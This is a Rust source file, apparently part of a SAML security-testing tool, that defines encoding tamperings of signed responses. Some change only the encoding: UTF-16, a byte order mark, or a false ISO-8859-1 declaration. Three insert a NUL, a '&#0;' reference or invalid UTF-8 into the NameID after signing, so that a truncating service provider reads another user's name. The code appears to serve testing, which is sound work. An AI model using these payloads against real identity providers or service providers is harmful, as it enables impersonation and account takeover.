use crate::saml::forge::{Bench, Draft, ForgeError, Rest};

use super::list::tamperings;
use super::stage::Stage;

tamperings! {
    /// The octets of the message: encodings, and what is not allowed in XML.
    OctetTampering, "Encodings";

    /// UTF-16 with a byte order mark.
    Utf16 = "utf-16", Unusual, "XML 1.0 section 4.3.3";
    /// UTF-16 without a byte order mark, and no declaration.
    Utf16Unmarked = "utf-16-unmarked", Unusual, "XML 1.0 section 4.3.3 and appendix F";
    /// UTF-8 that declares itself ISO-8859-1.
    OtherEncodingDeclared = "other-encoding-declared", Unusual, "XML 1.0 section 4.3.3";
    /// UTF-8 with a byte order mark.
    ByteOrderMark = "byte-order-mark", Unusual, "XML 1.0 section 4.3.3";
    /// A NUL after the other user's name; the rest of the signed name follows.
    NulInNameId = "nul-in-name-id", Divided, "CWE-626; XML 1.0 section 2.2";
    /// A reference to NUL after the other user's name; the rest of the signed name follows.
    NulReferenceInNameId = "nul-reference-in-name-id", Divided, "CWE-626; XML 1.0 section 4.1";
    /// Bytes that are no UTF-8 after the other user's name; the rest of the signed name follows.
    BrokenUtf8InNameId = "broken-utf-8-in-name-id", Divided, "XML 1.0 section 4.3.3";
}

impl Stage for OctetTampering {
    fn rest(self) -> Option<(Rest, bool)> {
        matches!(self, Self::NulInNameId | Self::NulReferenceInNameId | Self::BrokenUtf8InNameId)
            .then_some((Rest::After, true))
    }

    // What is no XML cannot be encrypted as an element.
    fn wants_plain(self) -> bool {
        self.rest().is_some()
    }

    fn after_signing(self, draft: &mut Draft, bench: &Bench<'_>) -> Result<(), ForgeError> {
        let between: &[u8] = match self {
            Self::NulInNameId => b"\0",
            Self::NulReferenceInNameId => b"&#0;",
            Self::BrokenUtf8InNameId => b"\xc0\x80\xff",
            _ => return Ok(()),
        };
        for name in draft.all(draft.response, "NameID") {
            let first = draft.document.make_text(&bench.context.other.name_id)?;
            let between = draft.document.make_raw(between)?;
            let last = draft.document.make_text(Rest::After.text())?;
            draft.only(name, [first, between, last])?;
        }
        Ok(())
    }

    fn octets(self, xml: Vec<u8>) -> Vec<u8> {
        let units = |mark: Option<u16>| {
            let text = String::from_utf8_lossy(&xml).into_owned();
            let units = mark.into_iter().chain(text.encode_utf16());
            units.flat_map(u16::to_le_bytes).collect()
        };
        match self {
            Self::Utf16 => units(Some(0xfeff)),
            Self::Utf16Unmarked => units(None),
            Self::OtherEncodingDeclared => {
                let declaration = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>";
                // A declaration that is there already has to go: there can be one.
                let start = match xml.starts_with(b"<?xml") {
                    true => memchr::memchr(b'>', &xml).map_or(0, |end| end + 1),
                    false => 0,
                };
                [declaration, xml.get(start..).unwrap_or_default()].concat()
            }
            Self::ByteOrderMark => [b"\xef\xbb\xbf".as_slice(), &xml].concat(),
            _ => xml,
        }
    }
}
